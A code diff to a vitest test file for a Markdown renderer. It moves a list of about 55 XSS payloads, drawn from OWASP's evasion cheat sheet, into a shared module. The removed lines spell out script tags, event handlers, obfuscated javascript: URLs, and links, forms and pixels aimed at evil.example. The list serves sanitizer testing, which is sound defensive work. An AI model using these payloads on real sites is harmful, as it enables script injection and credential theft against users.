@@ -1,4 +1,5 @@
 import { describe, expect, it } from 'vitest';
+import { hostileMarkdown } from '../../test/hostile-markdown.ts';
 import {
   addressName,
   plainWords,
@@ -6,68 +7,6 @@ import {
   renderMailMarkdown,
   renderMarkdown,
 } from './render-markdown.ts';
-
-/**
- * Ways to smuggle a script through Markdown and HTML: from OWASP's XSS filter evasion cheat sheet, the issues of
- * Markdown libraries, and what browsers forgive (entities, control characters, case, broken tags).
- */
-const attacks: readonly string[] = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="x" onerror="alert(1)" />',
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<object data="data:text/html,<script>alert(1)</script>"></object>',
-  '<embed src="//evil.example/x.swf">',
-  '<form action="//evil.example"><input name=password><button>Go</button></form>',
-  '<body onload=alert(1)>',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href=" \u0001javascript:alert(1)">x</a>',
-  '<style>*{background:url(javascript:alert(1))}</style>',
-  '<link rel=stylesheet href=//evil.example/x.css>',
-  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
-  '<base href="//evil.example/">',
-  '<details open ontoggle=alert(1)>',
-  '<video><source onerror=alert(1)></video>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<template><script>alert(1)</script></template>',
-  '[x](javascript:alert(1))',
-  '[x](JaVaScRiPt:alert(1))',
-  '[x](java\tscript:alert(1))',
-  '[x](java&#10;script:alert(1))',
-  '[x](&#106;avascript:alert(1))',
-  '[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74:alert(1))',
-  '[x](vbscript:msgbox(1))',
-  '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
-  '[x](//evil.example/steal)',
-  '[x]: javascript:alert(1)\n\n[x]',
-  '<javascript:alert(1)>',
-  '![x](javascript:alert(1))',
-  '![x](https://evil.example/pixel.gif)',
-  '![x](//evil.example/pixel.gif)',
-  '![x](data:image/svg+xml,<svg onload=alert(1)>)',
-  '![x](/files/images/marketing/../../user_pictures/u/PFP)',
-  '![x](/files/images/marketing/a.png?x="onerror="alert(1))',
-  '![x" onerror="alert(1)](/files/images/marketing/a.webp)',
-  '![x](/files/images/marketing/a.webp "t\\" onerror=\\"alert(1)")',
-  '[x](/a "t\\" onmouseover=\\"alert(1)")',
-  '`<script>alert(1)</script>`',
-  '```html"onmouseover="alert(1)\n<script>alert(1)</script>\n```',
-  '# <img src=x onerror=alert(1)>',
-  '# x" onclick="alert(1)',
-  '| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |',
-  '<p style="position:fixed;inset:0">over everything</p>',
-  '<p id="root">clobbered</p>',
-  '<!-- --!><script>alert(1)</script> -->',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '---\ntitle: <script>alert(1)</script>\n---\n\ntext',
-  '---\nlayout: "><img src=x onerror=alert(1)>\n---',
-  '\u0000<script>alert(1)</script>',
-];
 
 /** What a browser would act on, read from the tags that are really there: escaped text is no tag. */
 function dangersIn(html: string): string[] {
@@ -93,13 +32,13 @@ function dangersIn(html: string): string[] {
 }
 
 describe('PUB-4: Markdown that somebody else wrote', () => {
-  it.each(attacks)('runs nothing in a page: %j', (attack) => {
+  it.each(hostileMarkdown)('runs nothing in a page: %j', (attack) => {
     for (const source of [attack, `text\n\n${attack}\n\ntext`, `> - ${attack}`, `**${attack}**`]) {
       expect(dangersIn(renderMarkdown(source))).toEqual([]);
     }
   });
 
-  it.each(attacks)('runs nothing in a mail: %j', (attack) => {
+  it.each(hostileMarkdown)('runs nothing in a mail: %j', (attack) => {
     const html = renderMailMarkdown(attack, 'https://auspex.example');
     const unstyled = html
       .replace(/ style="[^"]*"/g, '')
